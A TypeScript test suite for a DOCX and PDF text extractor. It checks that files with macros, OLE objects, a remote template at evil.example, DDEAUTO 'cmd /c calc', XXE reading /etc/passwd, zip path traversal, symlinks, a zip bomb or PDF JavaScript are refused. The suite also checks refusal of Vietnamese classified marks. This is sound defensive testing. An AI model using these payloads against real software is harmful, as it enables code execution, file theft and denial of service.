import { spawnSync } from 'node:child_process';
import { deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { extractDocx } from '../../documents/docx.js';
import type { Extracted } from '../../documents/extracted.js';
import { LIMITS } from '../../documents/limits.js';
import { PROBLEMS, ProblemError, type Problem } from '../../domain/problem.js';
import { render } from '../../i18n/render.js';
import type { WordKey } from '../../i18n/vi.js';
import { docxOf, docxParts, p, r, relations, wordPart } from '../builders/docx.js';
import { pdfOf } from '../builders/pdf.js';
import { zipOf, type ZipPart } from '../builders/zip.js';
import { compiledReader } from './compiled-reader.js';

const reader = compiledReader();
const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const body = p('Kế hoạch');
const others = (parts: Record<string, string>): Buffer => docxOf(body, parts);
const beside = (...parts: ZipPart[]): Buffer => zipOf([...docxParts(body), ...parts]);
const changed = (change: Partial<ZipPart>): Buffer =>
  zipOf(docxParts(body).map((part) => (part.name === 'word/document.xml' ? { ...part, ...change } : part)));
const link = (type: string, target: string, mode = ' TargetMode="External"') =>
  relations(`<Relationship Id="r9" Type="${TYPES}/${type}" Target="${target}"${mode}/>`);
const mainType = (type: string) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`;
const withDoctype = (doctype: string) =>
  `<?xml version="1.0"?>${doctype}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>`;
const zeros = (mb: number) => Buffer.alloc(mb * 1024 * 1024);
const deep = '<w:sdt><w:sdtContent>'.repeat(40) + p('x') + '</w:sdtContent></w:sdt>'.repeat(40);

const bad: [string, Buffer, string, Record<string, unknown>?][] = [
  ['of no bytes', Buffer.alloc(0), 'FILE_EMPTY'],
  ['of more than 20 MB', Buffer.alloc(LIMITS.file + 1), 'FILE_TOO_LARGE', { max: LIMITS.file }],
  ['that is a PDF', pdfOf([[]]), 'FILE_TYPE_MISMATCH', { expected: 'DOCX', found: 'PDF' }],
  ['that is a program', Buffer.from('MZ\x90\x00'), 'FILE_TYPE_MISMATCH', { found: 'EXE' }],
  ['of Word 97', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'FILE_TYPE_MISMATCH', { found: 'Office 97-2003 (.doc, .xls)' }],
  ['that is a web page', Buffer.from('<!DOCTYPE html><html>'), 'FILE_TYPE_MISMATCH', { found: 'HTML' }],
  ['that is text', Buffer.from('Kế hoạch'), 'FILE_TYPE_MISMATCH', { found: 'TXT' }],
  ['that is some ZIP', zipOf([{ name: 'a.txt', content: 'a' }]), 'FILE_TYPE_MISMATCH', { found: 'ZIP' }],
  [
    'that is a workbook',
    others({ '[Content_Types].xml': mainType('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml') }),
    'FILE_TYPE_MISMATCH',
    { found: 'XLSX' },
  ],
  ['that is a .docm', others({ '[Content_Types].xml': mainType('application/vnd.ms-word.document.macroEnabled.main+xml') }), 'FILE_MACRO'],
  ['with vbaProject.bin', others({ 'word/vbaProject.bin': 'x' }), 'FILE_MACRO', { part: 'word/vbaProject.bin' }],
  ['with an OLE object', others({ 'word/_rels/document.xml.rels': link('oleObject', 'embeddings/a.bin', '') }), 'FILE_EMBEDDED_OBJECT'],
  ['with an embedded file', others({ 'word/_rels/document.xml.rels': link('package', 'embeddings/a.xlsx', '') }), 'FILE_EMBEDDED_OBJECT'],
  ['with ActiveX', others({ 'word/activeX/activeX1.xml': '<a/>' }), 'FILE_EMBEDDED_OBJECT'],
  [
    'with a program for a picture',
    others({ 'word/media/image1.png': 'MZ\x90' }),
    'FILE_EMBEDDED_OBJECT',
    { part: 'word/media/image1.png' },
  ],
  ['with another file as a chunk', docxOf('<w:altChunk/>'), 'FILE_EMBEDDED_OBJECT'],
  [
    'with a remote template',
    others({ 'word/_rels/settings.xml.rels': link('attachedTemplate', 'http://evil.example/a.dotm') }),
    'FILE_EXTERNAL_LINK',
    { kind: 'attachedTemplate' },
  ],
  [
    'with a linked picture',
    others({ 'word/_rels/document.xml.rels': link('image', 'file:///etc/passwd') }),
    'FILE_EXTERNAL_LINK',
    { kind: 'image' },
  ],
  [
    'with a field that fetches',
    docxOf(
      `<w:p><w:r><w:fldChar/></w:r><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar/></w:r></w:p>`,
    ),
    'FILE_EXTERNAL_LINK',
    { kind: 'DDEAUTO' },
  ],
  [
    'with a DOCTYPE',
    others({ 'word/document.xml': withDoctype('<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>') }),
    'FILE_XML_DTD',
    { part: 'word/document.xml' },
  ],
  [
    'with a DOCTYPE in UTF-16',
    zipOf([
      ...docxParts(body).slice(0, 2),
      { name: 'word/document.xml', content: Buffer.from(`\ufeff${withDoctype('<!DOCTYPE w>')}`, 'utf16le') },
    ]),
    'FILE_XML_DTD',
  ],
  ['of a billion laughs', others({ 'word/settings.xml': '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><l>&b;</l>' }), 'FILE_XML_DTD'],
  ['of elements too deep', docxOf(deep), 'FILE_TOO_COMPLEX'],
  ['of broken XML', others({ 'word/document.xml': '<w:document' }), 'FILE_CORRUPT'],
  [
    'of bytes that are no UTF-8',
    others({}).length > 0
      ? zipOf([
          ...docxParts(body).slice(0, 2),
          { name: 'word/document.xml', content: Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0x3c, 0x2f, 0x61, 0x3e]) },
        ])
      : Buffer.alloc(0),
    'FILE_CORRUPT',
  ],
  ['without its main part', zipOf(docxParts(body).slice(0, 2)), 'FILE_CORRUPT'],
  ['cut at 60 %', docxOf(body).subarray(0, 500), 'FILE_CORRUPT'],
  ['whose bytes are damaged', changed({ crc: 1 }), 'FILE_CORRUPT'],
  ['whose size is told too small', changed({ declaredSize: 5 }), 'FILE_CORRUPT'],
  ['whose headers tell two methods', changed({ localMethod: 0 }), 'FILE_CORRUPT'],
  ['whose headers tell two names', changed({ localName: 'word/other000.xml' }), 'FILE_CORRUPT'],
  ['whose parts overlap', beside({ name: '[Content_Types].xml2', content: docxParts(body)[0]!.content, overlaps: true }), 'FILE_CORRUPT'],
  ['with a part twice', beside({ name: 'WORD/document.xml', content: 'x' }), 'FILE_CORRUPT'],
  ['with a password', changed({ flags: 0x801 }), 'FILE_ENCRYPTED'],
  ['with a part ../../x', beside({ name: '../../x', content: 'x' }), 'FILE_PATH'],
  ['with a part C:\\x', beside({ name: 'C:\\x', content: 'x' }), 'FILE_PATH'],
  ['with a part /x', beside({ name: '/x', content: 'x' }), 'FILE_PATH'],
  ['with a symbolic link', beside({ name: 'word/link', content: '/etc/passwd', mode: 0o120777 }), 'FILE_PATH'],
  ['of 2,001 parts', zipOf(Array.from({ length: 2001 }, (_, n) => ({ name: `p${n}`, content: '' }))), 'FILE_TOO_COMPLEX'],
  [
    'that expands too far for its size',
    beside({ name: 'word/media/a.png', content: zeros(2) }),
    'FILE_EXPANDS',
    { part: 'word/media/a.png' },
  ],
  ['that tells of 31 MB in a part', beside({ name: 'word/media/a.png', content: 'x', declaredSize: 31 * 1024 * 1024 }), 'FILE_EXPANDS'],
  [
    'that tells of over 100 MB in all',
    beside(...[1, 2, 3, 4].map((n) => ({ name: `word/media/${n}.png`, content: 'x', declaredSize: 29 * 1024 * 1024 }))),
    'FILE_EXPANDS',
  ],
  ['marked MẬT', docxOf(p('TỈNH ỦY') + p('MẬT') + body), 'CLASSIFIED_REFUSED', { mark: 'MẬT' }],
  [
    'marked TUYỆT MẬT in a box',
    docxOf(`<w:p><w:r><w:txbxContent>${p('TUYỆT MẬT')}</w:txbxContent></w:r></w:p>`),
    'CLASSIFIED_REFUSED',
    { mark: 'TUYỆT MẬT' },
  ],
  ['marked TỐI MẬT by a style of capitals', docxOf(`<w:p>${r('Tối mật', '<w:caps/>')}</w:p>`), 'CLASSIFIED_REFUSED'],
  ['marked M Ậ T in its head', others({ 'word/header1.xml': wordPart('hdr', p('M Ậ T')) }), 'CLASSIFIED_REFUSED', { mark: 'MẬT' }],
];

const codeOf = (answer: unknown) => (answer as Problem).code;

/** What the reader of a process would answer, in this very process: so many files need not cost a process each. */
async function readHere(bytes: Buffer): Promise<Extracted | Problem> {
  try {
    return await extractDocx(bytes);
  } catch (error) {
    if (error instanceof ProblemError) return error.problem;
    throw error;
  }
}

describe('a .docx', () => {
  test.each(bad)('%s is refused by name', async (_, bytes, code, data = {}) => {
    const answer = (await readHere(bytes)) as Problem;
    expect(answer).toMatchObject({ code, data });
    for (const language of ['vi', 'en'] as const)
      expect(render(language, `problem.${code}` as WordKey, answer.data)).not.toMatch(/\{\w+\}/);
    expect(PROBLEMS[answer.code]).toBeGreaterThanOrEqual(400);
  });

  it('is refused alike by the process that reads it', async () => {
    expect(await reader.readDocx(others({ 'word/vbaProject.bin': 'x' }))).toEqual({
      code: 'FILE_MACRO',
      data: { part: 'word/vbaProject.bin' },
    });
    expect(await reader.readDocx(docxOf(body))).toEqual(await readHere(docxOf(body)));
  });

  it('that speaks of secrets without being one is read', async () => {
    const answer = await readHere(docxOf(p('Bảo vệ bí mật nhà nước: văn bản MẬT phải lưu riêng') + p('Bí mật')));
    expect(answer).toMatchObject({ kind: 'docx', warnings: [] });
  });

  it('with links to follow by hand is read: nothing follows them', async () => {
    const answer = await readHere(others({ 'word/_rels/document.xml.rels': link('hyperlink', 'https://example.org/') }));
    expect(answer).toMatchObject({ plainText: 'Kế hoạch' });
  });

  it('bent anywhere is read or refused, never more', async () => {
    const whole = docxOf(body + p('Số 132-KH/TU'));
    await fc.assert(
      fc.asyncProperty(fc.nat(whole.length - 1), fc.nat(255), async (at, value) => {
        const bent = Buffer.from(whole);
        bent[at] = value;
        const answer = await readHere(bent);
        expect('plainText' in answer || PROBLEMS[answer.code] >= 400).toBe(true);
      }),
      { numRuns: 400 },
    );
  });
});

describe('a bomb of 511 KB that expands to 512 MB', () => {
  // Stored blocks of one deflate stream: 512 MB of zeros take about 511 KB.
  const bomb = Buffer.from(deflateRawSync(zeros(512), { level: 9, memLevel: 9 }));

  test.each([
    ['and says so', 512 * 1024 * 1024],
    ['and lies about it', 1000],
    ['and tells the most that is allowed', 29 * 1024 * 1024],
  ])('%s is refused while it inflates, with little memory', async (_, declaredSize) => {
    const bytes = zipOf([...docxParts(body), { name: 'word/big.xml', content: '', deflated: bomb, declaredSize }]);
    expect(bytes.length).toBeLessThan(530_000);
    const peak = peakMb(bytes);
    expect(['FILE_EXPANDS', 'FILE_CORRUPT']).toContain(peak.code);
    expect(peak.mb - peakMb(docxOf(body)).mb).toBeLessThan(50);
  });

  /** The most memory that the process held which reads a file, in MB; where the system doesn't tell, none. */
  function peakMb(bytes: Buffer): { mb: number; code: string } {
    const probe = `import(${JSON.stringify(`file://${reader.script}`)});process.on('exit',()=>process.stderr.write(String(process.resourceUsage().maxRSS)))`;
    const run = spawnSync(process.execPath, ['--input-type=module', '-e', probe, '--', 'of', 'docx'], { input: bytes, encoding: 'utf8' });
    return { mb: Number(run.stderr) / 1024, code: codeOf(JSON.parse(run.stdout)) };
  }
});

describe('a process that reads a file', () => {
  it('ends when it takes too long, and says so', async () => {
    const hasty = compiledReader({ timeMs: 1 });
    expect(await hasty.readDocx(docxOf(body))).toMatchObject({ code: 'FILE_TOO_COMPLEX' });
  });

  it('ends when it takes too much memory, and the one that asked goes on', async () => {
    const paragraphs = Buffer.from(Array.from({ length: 60_000 }, (_, n) => p(`${n} ${Math.sin(n)} ${Math.cos(n)}`)).join(''));
    const tight = compiledReader({ memoryMb: 16 });
    expect(await tight.readDocx(docxOf(paragraphs.toString()))).toMatchObject({ code: 'FILE_TOO_COMPLEX', data: { reason: '> 16 MB' } });
    expect(await reader.readDocx(docxOf(body))).toMatchObject({ plainText: 'Kế hoạch' });
  });
});

describe('a .pdf', () => {
  const page = [
    { x: 100, y: 780, text: 'TINH UY HOA BINH' },
    { x: 330, y: 780, text: 'DANG CONG SAN VIET NAM' },
    { x: 100, y: 760, text: 'So 132-KH/TU' },
    { x: 330, y: 760, text: 'Hoa Binh, ngay 28 thang 10 nam 2022' },
    { x: 280, y: 720, text: 'KE HOACH' },
    { x: 113, y: 680, text: 'Thuc hien Nghi quyet cua Ban Chap hanh Trung uong Dang khoa XIII ve' },
    { x: 85, y: 660, text: 'tang cuong cung co, xay dung to chuc co so dang va nang cao chat luong x' },
    { x: 85, y: 640, text: 'doi ngu dang vien.' },
    { x: 85, y: 620, text: '- Ban To chuc.' },
    { x: 300, y: 815, text: '2' },
  ];

  it('gives its lines as paragraphs, heads by columns, without page numbers', async () => {
    const answer = await reader.readPdf(pdfOf([page, []]));
    if (!('plainText' in answer)) throw new Error(answer.code);
    expect(answer.plainText.split('\n')).toEqual([
      'TINH UY HOA BINH | DANG CONG SAN VIET NAM',
      'So 132-KH/TU | Hoa Binh, ngay 28 thang 10 nam 2022',
      'KE HOACH',
      'Thuc hien Nghi quyet cua Ban Chap hanh Trung uong Dang khoa XIII ve tang cuong cung co, xay dung to chuc co so dang va nang cao chat luong x doi ngu dang vien.',
      '- Ban To chuc.',
    ]);
    expect(answer.warnings).toEqual([{ code: 'PAGES_WITHOUT_TEXT', data: { pages: '2' } }]);
    expect(answer.pages[0]).toEqual({ start: 0, end: answer.plainText.length });
  });

  test.each<[string, Buffer, string]>([
    ['of no bytes', Buffer.alloc(0), 'FILE_EMPTY'],
    ['that is a .docx', docxOf(body), 'FILE_TYPE_MISMATCH'],
    ['without text', pdfOf([[], []]), 'FILE_NO_TEXT'],
    ['cut off', pdfOf([page]).subarray(0, 60), 'FILE_CORRUPT'],
    ['with a script', pdfOf([page], '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'), 'FILE_MACRO'],
    [
      'with a file attached',
      pdfOf(
        [[{ x: 85, y: 700, text: 'x' }]],
        '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>] >> >>',
      ),
      'FILE_EMBEDDED_OBJECT',
    ],
  ])('%s is refused by name', async (_, bytes, code) => {
    expect(await reader.readPdf(bytes)).toMatchObject({ code });
  });
});
